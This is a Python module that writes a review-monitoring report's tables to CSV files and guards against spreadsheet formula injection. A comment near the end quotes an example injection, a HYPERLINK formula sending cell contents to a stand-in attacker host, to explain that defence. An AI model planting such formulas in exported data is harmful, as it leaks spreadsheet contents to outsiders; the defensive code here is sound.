"""CSV exports of the report's tables: one file per table in a folder, numbers unrounded, dates ISO."""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

from reports.figures import Group, Quote, Report, Tally

TALLY_COLUMNS = [
    "mentions",
    "reviews",
    "rated",
    "average_rating",
    "nps_like",
    "stars_1",
    "stars_2",
    "stars_3",
    "stars_4",
    "stars_5",
    "negative",
    "neutral",
    "positive",
    "answered",
    "answered_share",
    "median_reply_hours",
    "with_deadline",
    "sla_breaches",
    "answered_late",
    "past_deadline",
    "rejected",
]


def tally_row(tally: Tally) -> list[Any]:
    return [
        tally.mentions,
        tally.reviews,
        tally.rated,
        tally.average_rating,
        tally.nps,
        *tally.stars,
        tally.sentiment["negative"],
        tally.sentiment["neutral"],
        tally.sentiment["positive"],
        tally.answered,
        tally.answered_share,
        tally.median_reply_hours,
        tally.with_deadline,
        tally.sla_breaches,
        tally.answered_late,
        tally.past_deadline,
        tally.rejected,
    ]


def group_rows(level: str, groups: Iterable[Group]) -> list[list[Any]]:
    rows = []
    for group in groups:
        for period, tally in (("current", group.current), ("previous", group.previous)):
            rows.append([level, group.name, group.kind, period, *tally_row(tally)])
    return rows


def quote_rows(kind: str, quotes: Iterable[Quote]) -> list[list[Any]]:
    return [[kind, q.topic, q.mention_id, q.source, q.when.isoformat(), q.rating, q.sentiment, q.text] for q in quotes]


def survey_rows(figures: Any) -> list[list[Any]]:
    """The survey section (reports/survey_figures.py) as figure, campaign, value rows: one per figure, three
    per campaign."""
    names = ["answers", "nps", "nps_answers", "nps_like", "csat", "csat_answers", "ces", "ces_answers", "invited"]
    names += ["unsubscribe_rate", "bounce_rate", "capped"]
    rows = [[name, "", getattr(figures, name)] for name in names]
    for c in figures.campaigns:
        rows += [["invited", c.name, c.invited], ["answered", c.name, c.answered]]
        rows.append(["response_rate", c.name, c.response_rate])
    return rows


def tables(report: Report) -> dict[str, tuple[Sequence[str], list[list[Any]]]]:
    groups = (
        group_rows("brand", [report.total])
        + group_rows("source", report.sources)
        + group_rows("product", report.products)
        + group_rows("location", report.locations)
    )
    quotes = [row for signal in report.weak_signals for row in quote_rows("weak_signal", signal.quotes)]
    for topic in report.topics:
        quotes += quote_rows("praise", topic.praise_examples) + quote_rows("irritant", topic.irritant_examples)
    trend = report.trend
    if report.year_earlier is not None:
        groups.append(["brand", report.total.name, "", "year_earlier", *tally_row(report.year_earlier)])
    for competitor in report.competitors:
        for period, tally in (("current", competitor.current), ("previous", competitor.previous)):
            groups.append(["competitor", competitor.name, "", period, *tally_row(tally)])
    monthly: list[list[Any]] = []
    if report.monthly is not None:
        lines = [("all sources", report.monthly.total), *report.monthly.by_source.items()]
        for name, tallies in lines:
            for month, tally in zip(report.monthly.months, tallies, strict=True):
                monthly.append([month.date().isoformat()[:7], name, *tally_row(tally)])
    backlog = report.backlog
    # Only when the report has the section: a brand without survey orders gets no empty file.
    survey = {"survey": (["figure", "campaign", "value"], survey_rows(report.survey))} if report.survey else {}
    return {
        **survey,
        # The trend lines of the HTML's chart, as a table (one row per month and source).
        "trend_monthly": (["month", "source", *TALLY_COLUMNS], monthly),
        "backlog": (
            ["total", "to_moderate", "to_publish", "to_reply", "history", "past_deadline"],
            [
                [backlog.total, backlog.to_moderate, backlog.to_publish, backlog.to_reply, backlog.history]
                + [backlog.past_deadline]
            ],
        ),
        "actions": (["what", "owner", "target", "link"], [[a.what, a.owner, a.target, a.link] for a in report.actions]),
        "competitor_topics": (
            ["competitor", "topic", "mentions", "negative"],
            [
                [c.name, topic, n, c.negative_topics[topic]]
                for c in report.competitors
                for topic, n in sorted(c.topics.items())
            ],
        ),
        "figures": (["level", "name", "kind", "period", *TALLY_COLUMNS], groups),
        "trend": (
            ["bucket_start", "mentions", "negative", "rated", "average_rating"],
            [
                [start.isoformat(), trend.mentions[i], trend.negative[i], trend.rated[i], trend.average_rating(i)]
                for i, start in enumerate(trend.starts)
            ],
        ),
        "topics": (
            ["topic", "label", "period", "negative", "neutral", "positive", "total"],
            [
                [t.name, t.label, period, c["negative"], c["neutral"], c["positive"], sum(c.values())]
                for t in report.topics
                for period, c in (("current", t.current), ("previous", t.previous))
            ],
        ),
        "quotes": (["kind", "topic", "mention_id", "source", "when", "rating", "sentiment", "text"], quotes),
        "weak_signals": (
            ["kind", "subject", "why", "now", "now_total", "before", "before_total"],
            [[s.kind, s.subject, s.why, s.now, s.now_total, s.before, s.before_total] for s in report.weak_signals],
        ),
        "moderation": (
            ["what", "name", "mentions"],
            [["status", s, n] for s, n in sorted(report.moderation.statuses.items())]
            + [["rejection_reason", s, n] for s, n in sorted(report.moderation.rejected_by_reason.items())]
            + [["off_topic", "", report.off_topic]],
        ),
        "products_low": (
            ["product", "reviews_counted", "average_rating", "last_review_at"],
            [[p.product, p.reviews, p.average_rating, p.last_review_at.isoformat()] for p in report.low_products],
        ),
        "late_replies": (
            ["mention_id", "source", "assignee", "due_at", "text"],
            [[x.mention_id, x.source, x.assignee, x.due_at.isoformat(), x.text] for x in report.late_replies],
        ),
        "crises": (["at", "source", "text"], [[c.at.isoformat(), c.source, c.text] for c in report.crises]),
        "crisis_cells": (
            ["channel", "opened_at", "closed_at", "duration_minutes", "mentions", "peak", "peak_hour", "reach"]
            + ["replies", "first_reply_minutes", "closed_by"],
            [
                [
                    c.channel,
                    c.opened_at.isoformat(),
                    c.closed_at.isoformat() if c.closed_at else None,
                    round(c.duration.total_seconds() / 60),
                    c.mentions,
                    c.peak,
                    c.peak_at.isoformat() if c.peak_at else None,
                    c.reach,
                    c.replies,
                    round(c.first_reply_after.total_seconds() / 60) if c.first_reply_after is not None else None,
                    c.closed_by,
                ]
                for c in report.crisis_cells
            ],
        ),
    }


# A spreadsheet runs a cell that starts with one of these as a formula: a review written as
# `=HYPERLINK("https://evil.example?"&A1, "click")` would run on the marketing team's machine (OWASP "CSV
# injection"). Such a text cell is written with a leading apostrophe, which spreadsheets show as text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """A value as written in a CSV file: None empty, text from outside never read as a formula."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write(report: Report, folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, (header, rows) in tables(report).items():
        path = folder / f"{name}.csv"
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle)
            writer.writerow(header)
            writer.writerows([cell(value) for value in row] for row in rows)
        written.append(path)
    return written
